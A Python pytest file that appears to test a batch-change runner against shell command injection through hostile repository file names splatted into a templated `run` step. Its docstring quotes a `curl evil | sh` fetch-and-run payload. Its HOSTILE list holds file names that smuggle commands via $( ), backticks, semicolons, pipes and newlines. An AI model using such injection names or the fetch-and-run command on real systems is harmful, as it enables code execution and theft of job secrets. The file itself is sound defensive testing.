"""Hostile file names splatted into `run` (Sourcegraph's VULN-91, HackerOne report 3767160).

A repository can hold a file named ``$(curl evil | sh).go``; a spec that runs
``${{ join repository.search_result_paths " " }}`` would then run that command
inside a step that holds the job's secrets. Templates see every file name
shell-quoted, as Sourcegraph's do, so on the real engine: a repository full of
such names, run through a spec that splats them into `run` from the search
results and from the previous step's changes, executes nothing (no file
appears in the workspace, in the container's /tmp or on the host), and each
step sees every name as exactly one argument.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from runner.spec import shellquote
from tests.attack_support import TEST_IMAGE, base_env, events_of, run_cli
from tests.helpers import make_repo

pytestmark = pytest.mark.docker

MARK = "PWNED_"  # what every payload would create; no hostile name starts with it
HOSTILE = [
    f"$(touch {MARK}subst).go",
    f"a;touch {MARK}semi;.go",
    f"`touch {MARK}tick`.go",
    f"x|touch {MARK}pipe.go",
    f"x&touch {MARK}amp.go",
    f"x>{MARK}redir;.go",
    f"$(touch /tmp/{MARK}abs).go",  # folders "$(touch " and "tmp" hold it
    f"new\ntouch {MARK}newline\n.go",
    f"tab\ttouch {MARK}tab.go",
    "it's.go",
    '"double".go',
    "back\\slash.go",
    "with space.go",
    "*.go",
    "[ab].go",
    "{a,b}.go",
    "~root.go",
    "$HOME.go",
    "#comment.go",
    "!bang.go",
    "café ✓.go",
    "a.go",  # what the globs above would match, were they expanded
]
ARGS_SCRIPT = (
    'echo "{tag}count=$#"\n'
    "for a in \"$@\"; do printf '{tag}' ; printf '%s' \"$a\" | od -An -tx1 | tr -d ' \\n'; echo; done\n"
)
CHECK_SCRIPT = (
    f"if [ -e /tmp/{MARK}abs ]; then echo {MARK}FOUND /tmp; fi\n"
    f"find . -name '{MARK}*' ! -name '*.go' -exec echo {MARK}FOUND {{}} \\;\n"
)


def spec_text() -> str:
    def step(script: str) -> str:
        return f"  - run: {json.dumps(script)}\n    container: {TEST_IMAGE}\n"

    touch_all = (
        "find . -name .git -prune -o -type f -name '*.go' "
        "-exec sh -c 'printf changed >> \"$1\"' _ {} \\;\n"
    )
    first = (
        'set -- ${{ join repository.search_result_paths " " }}\n'
        + ARGS_SCRIPT.format(tag="S1:")
        + CHECK_SCRIPT
        + touch_all
    )
    second = (
        'set -- ${{ join previous_step.modified_files " " }}\n'
        + ARGS_SCRIPT.format(tag="S2:")
        + "set -- ${{ shellquote_join previous_step.modified_files }}\n"
        + ARGS_SCRIPT.format(tag="S3:")
        + 'for f in ${{ join steps.modified_files " " }}; do :; done\n'
        + CHECK_SCRIPT
    )
    return (
        "name: hostile-names\n"
        "on:\n  - repositoriesMatchingQuery: marker\n"
        "steps:\n" + step(first) + step(second) + "changesetTemplate:\n"
        "  title: hostile names\n"
        '  body: ${{ join steps.modified_files " " }}\n'
        "  branch: hostile-names\n"
        "  commit:\n    message: hostile names\n"
    )


def seen_args(events: list[dict[str, Any]], tag: str) -> tuple[int, list[str]]:
    lines = [e["line"] for e in events if e.get("event") == "step.output"]
    [count] = [
        int(line.removeprefix(f"{tag}count=")) for line in lines if line.startswith(f"{tag}count=")
    ]
    args = [
        bytes.fromhex(line.removeprefix(tag)).decode("utf-8")
        for line in lines
        if line.startswith(tag) and not line.startswith(f"{tag}count=")
    ]
    return count, args


def test_hostile_file_names_execute_nothing_and_stay_one_argument_each(tmp_path: Path) -> None:
    repos = tmp_path / "repos"
    repo = make_repo(repos, "github.com/acme/hostile", dict.fromkeys(HOSTILE, "marker\n"))
    spec = tmp_path / "spec.yaml"
    spec.write_text(spec_text())
    home_tmp = tmp_path / "tmp"
    home_tmp.mkdir()
    env = base_env(RUNNER_HOME=str(tmp_path / "home"), TMPDIR=str(home_tmp), RUNNER_USER="alice")
    out = tmp_path / "out"
    proc = run_cli(["run", str(spec), "--repos-root", str(repos), "--out", str(out), "--json"], env)
    assert proc.returncode == 0, proc.stderr
    events = events_of(proc.stdout)
    finished = [e for e in events if e["event"] == "workspace.finished"]
    assert [e["status"] for e in finished] == ["changed"], finished

    # Nothing ran: no payload's file, in the container, the workspace or on the host.
    lines = [e["line"] for e in events if e.get("event") == "step.output"]
    assert not [line for line in lines if f"{MARK}FOUND" in line]
    assert not Path(f"/tmp/{MARK}abs").exists()
    made = [p for p in tmp_path.rglob(f"{MARK}*") if not p.name.endswith(".go")]
    assert made == []
    assert sorted(
        p.relative_to(repo).as_posix()
        for p in repo.rglob("*")
        if p.is_file() and ".git" not in p.parts
    ) == sorted(HOSTILE)

    # Each name reached the step as one argument, unchanged, from every source.
    by_bytes = sorted(HOSTILE, key=lambda s: s.encode())
    assert seen_args(events, "S1:") == (len(HOSTILE), by_bytes)
    for tag in ("S2:", "S3:"):
        count, args = seen_args(events, tag)
        assert count == len(HOSTILE)
        assert sorted(args) == sorted(HOSTILE)

    # The changeset: every name changed, none added; its body lists them quoted.
    [written] = [p for p in out.rglob("*.json") if p.name != "summary.json"]
    body = json.loads(written.read_text())
    patch = body["commits"][0]["diff"]
    assert "new file mode" not in patch
    assert sorted(shellquote.split(body["body"])) == sorted(HOSTILE)
